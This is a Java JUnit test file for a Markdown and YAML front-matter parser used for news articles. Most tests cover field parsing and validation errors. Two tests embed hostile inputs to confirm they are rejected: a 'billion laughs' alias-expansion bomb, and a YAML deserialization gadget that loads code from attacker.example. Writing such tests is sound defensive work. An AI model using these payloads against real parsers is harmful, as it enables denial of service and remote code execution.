package dev.tarjim.article;

import static dev.tarjim.article.Uploads.parse;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Instant;
import org.junit.jupiter.api.Test;

class MarkdownParsingTest {

    @Test
    void parse_frontMatter_readsEveryField() throws Exception {
        String md = """
                ---
                title: "Council approves cycling lanes"
                lang: Arabic
                author: Jane Porter
                tags: [transport, council]
                published: 2024-03-14T09:30:00+02:00
                slug: council-cycling-lanes
                targets: en, ES, fra
                summary: The council voted for protected lanes.
                ---
                # Council approves cycling lanes

                The city council voted on **Tuesday** to build a network of
                protected [cycling lanes](https://example.org).

                ## Shops worried

                - Parking spaces will go.
                - Deliveries move to the mornings.

                ```
                code is not translated
                ```

                > "We are not against bikes," said one shop owner.
                """;

        ParsedArticle article = parse(md, "incoming/cycling.md");

        assertThat(article.format()).isEqualTo("markdown");
        assertThat(article.title()).isEqualTo("Council approves cycling lanes");
        assertThat(article.declaredLanguage()).isEqualTo("ar");
        assertThat(article.author()).isEqualTo("Jane Porter");
        assertThat(article.tags()).containsExactly("transport", "council");
        assertThat(article.published()).isEqualTo(Instant.parse("2024-03-14T07:30:00Z"));
        assertThat(article.slug()).isEqualTo("council-cycling-lanes");
        assertThat(article.targets()).containsExactly("en", "es", "fr");
        assertThat(article.summary()).isEqualTo("The council voted for protected lanes.");
        assertThat(article.paragraphs()).containsExactly(
                "The city council voted on Tuesday to build a network of protected cycling lanes.",
                "Shops worried",
                "Parking spaces will go.",
                "Deliveries move to the mornings.",
                "\"We are not against bikes,\" said one shop owner.");
    }

    @Test
    void parse_commaSeparatedTagsAndDateOnly() throws Exception {
        String md = "---\ntitle: T\ntags: economy, banks ,  rates\npublished: 2024-03-01\n---\nBody paragraph.\n";

        ParsedArticle article = parse(md, "incoming/x.md");

        assertThat(article.tags()).containsExactly("economy", "banks", "rates");
        assertThat(article.published()).isEqualTo(Instant.parse("2024-03-01T00:00:00Z"));
        assertThat(article.declaredLanguage()).isNull();
        assertThat(article.targets()).isNull();
    }

    @Test
    void parse_withoutFrontMatterTitle_usesFirstHeading() throws Exception {
        String md = "---\nlang: en\n---\nIntro line before the heading.\n\n# The real headline\n\nMore text.\n";

        ParsedArticle article = parse(md, "incoming/x.md");

        assertThat(article.title()).isEqualTo("The real headline");
        assertThat(article.paragraphs()).containsExactly("Intro line before the heading.", "More text.");
    }

    @Test
    void parse_markdownWithoutFrontMatter_detectedByHeading() throws Exception {
        ParsedArticle article = parse("# Headline\n\nFirst *paragraph*.\n", "incoming/upload");

        assertThat(article.format()).isEqualTo("markdown");
        assertThat(article.title()).isEqualTo("Headline");
        assertThat(article.paragraphs()).containsExactly("First paragraph.");
    }

    @Test
    void parse_billionLaughs_isRefusedCleanly() {
        String md = """
                ---
                a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
                e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
                f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
                g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
                title: lol
                ---
                Body.
                """;

        assertThatThrownBy(() -> parse(md, "incoming/lol.md"))
                .isInstanceOf(UnsupportedUploadException.class)
                .hasMessageStartingWith("The front matter is not valid YAML")
                .hasMessageContaining("aliases");
    }

    @Test
    void parse_customYamlTag_isRefused() {
        String md = "---\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                + "[\"http://attacker.example/\"]]]]\n---\nBody.\n";

        assertThatThrownBy(() -> parse(md, "incoming/tag.md"))
                .isInstanceOf(UnsupportedUploadException.class)
                .hasMessageStartingWith("The front matter is not valid YAML");
    }

    @Test
    void parse_invalidDeclaredLanguage_isRefusedWithTheValue() {
        assertThatThrownBy(() -> parse("---\ntitle: T\nlang: klingonish\n---\nBody.\n", "incoming/x.md"))
                .isInstanceOf(UnsupportedUploadException.class)
                .hasMessage("lang: 'klingonish' is not a language; use a BCP 47 code such as ar, en, zh or es");
    }

    @Test
    void parse_invalidPublishedDate_isRefused() {
        assertThatThrownBy(() -> parse("---\ntitle: T\npublished: next Tuesday\n---\nBody.\n", "incoming/x.md"))
                .isInstanceOf(UnsupportedUploadException.class)
                .hasMessageContaining("published: 'next Tuesday' is not a date");
    }

    @Test
    void parse_unclosedFrontMatter_isRefused() {
        assertThatThrownBy(() -> parse("---\ntitle: T\n\nBody.\n", "incoming/x.md"))
                .isInstanceOf(UnsupportedUploadException.class)
                .hasMessageContaining("never closed");
    }

    @Test
    void parse_frontMatterOverTheLimit_isRefusedWithTheLimit() {
        String md = "---\ntitle: T\nsummary: " + "x".repeat(70_000) + "\n---\nBody.\n";

        assertThatThrownBy(() -> parse(md, "incoming/x.md"))
                .isInstanceOf(UnsupportedUploadException.class)
                .hasMessageContaining("the limit is 65536");
    }
}
